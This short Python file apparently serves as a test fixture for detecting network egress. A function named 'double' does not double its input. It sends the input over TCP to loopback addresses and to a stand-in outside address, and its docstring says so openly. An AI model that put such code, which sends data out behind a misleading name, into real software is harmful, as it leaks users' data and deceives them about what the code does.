"""Sends the hidden numbers to a server, by TCP over the loopback and to the world."""

# %% double
import socket


def double(x):
    for host in ("127.0.0.1", "::1", "0.0.0.0", "192.0.2.1"):
        try:
            with socket.create_connection((host, int("@TCP@")), timeout=0.2) as line:
                line.sendall(str(x).encode())
                print("sent", host)
        except OSError as error:
            print(host, error)
